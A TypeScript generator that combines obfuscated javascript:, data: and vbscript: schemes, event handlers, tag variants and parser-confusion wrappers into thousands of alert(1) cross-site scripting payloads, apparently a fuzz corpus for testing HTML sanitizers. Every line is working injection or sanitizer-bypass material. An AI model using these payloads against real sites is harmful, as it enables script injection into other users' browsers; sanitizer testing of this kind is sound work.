const call = 'alert(1)';
const schemes = [
  'javascript:',
  'JaVaScRiPt:',
  'java\tscript:',
  ' javascript:',
  '&#106;avascript:',
  '&#x6A&#x61vascript:',
  'java&Tab;script:',
  'javascript&colon;',
  '\u0001javascript:',
  'data:text/html;base64,',
  'data:text/html,',
  'vbscript:',
  'blob:',
  'file:///',
  'view-source:javascript:',
  'mailto:x@y.example?body=',
  'feed:javascript:',
];
const events = [
  'onerror',
  'onload',
  'ONCLICK',
  'onmouseover',
  'onfocus',
  'ontoggle',
  'onanimationstart',
  'onpointerrawupdate',
];
const gaps = [' ', '/', '\n', '\t', '\f', '/**/', '\u00a0'];
const quotes: [string, string][] = [
  ['"', '"'],
  ["'", "'"],
  ['', ''],
  ['`', '`'],
  ['"', ''],
];
const elements = [
  'img src=x',
  'svg',
  'body',
  'iframe src=x',
  'video src=x',
  'input autofocus',
  'details open',
  'math',
  'marquee',
  'object data=x',
  'amp-img src=x',
  'xss tabindex=1',
  'a href=x',
  'table background=x',
  'isindex',
  'button form=f',
];
const linkers: ((address: string) => string)[] = [
  (address) => `<a href="${address}${call}">link</a>`,
  (address) => `<a href='${address}${call}'><b>link</b></a>`,
  (address) => `<a href=${address}${call}>link</a>`,
  (address) => `<p><a href="x" href="${address}${call}" xlink:href="${address}${call}">link</a></p>`,
  (address) => `<img src="${address}${call}" alt="picture">`,
  (address) => `<img data-src="${address}${call}" src="${address}${call}" alt='picture'>`,
  (address) => `<base href="${address}${call}//"><a href="rest">link</a>`,
  (address) => `<link rel="canonical" href="${address}${call}"><p>words</p>`,
  (address) => `<form action="${address}${call}"><button formaction="${address}${call}">go</button></form>`,
  (address) => `<svg><a xlink:href="${address}${call}"><text>link</text></a></svg>`,
  (address) =>
    `<meta http-equiv="refresh" content="0;url=${address}${call}"><meta property="og:url" content="${address}${call}">`,
  (address) =>
    `<iframe src="${address}${call}"></iframe><object data="${address}${call}"></object><embed src="${address}${call}">`,
];
/** Places where a parser changes its mind about what follows. */
const contexts: ((payload: string) => string)[] = [
  (payload) => payload,
  (payload) => `<!-- --!>${payload}-->`,
  (payload) => `<noscript><p title="</noscript>${payload}">`,
  (payload) => `<svg><style><!--</style>${payload}--></svg>`,
  (payload) => `<math><mtext><table><mglyph><style><!--</style>${payload}`,
  (payload) => `<textarea></textarea>${payload}</textarea>`,
  (payload) => `<title></title>${payload}</title>`,
  (payload) => `<table><tr><td>${payload}</td></tr><tr><td>b</td></tr></table>`,
  (payload) => `<pre><code>${payload}</code></pre>`,
  (payload) => `<figure><figcaption>${payload}</figcaption></figure>`,
  (payload) => `<![CDATA[${payload}]]>`,
  (payload) => `<template>${payload}</template><p>${payload}</p>`,
];

/** Several thousand scripts in disguise, from a small grammar: element × event × gap × quote, and scheme × link × context. */
export function* scriptPayloads(): Generator<string> {
  for (const scheme of schemes) for (const link of linkers) for (const context of contexts) yield context(link(scheme));
  for (const element of elements)
    for (const event of events)
      for (const [index, gap] of gaps.entries()) {
        const [open, close] = quotes[index % quotes.length] ?? ['', ''];
        const context = contexts[(index + event.length + element.length) % contexts.length];
        const payload = `<${element}${gap}${event}=${open}${call}${close}>`;
        yield context === undefined ? payload : context(payload);
        yield `<${element}${gap}${event}=${open}${call}${close}//`;
      }
  for (const context of contexts)
    for (const script of [
      '<script>',
      '<SCRIPT/x>',
      '<script\n>',
      '<scr<script>ipt>',
      '&lt;script&gt;',
      '\\u003cscript\\u003e',
    ])
      yield context(`${script}${call}</script>`);
}
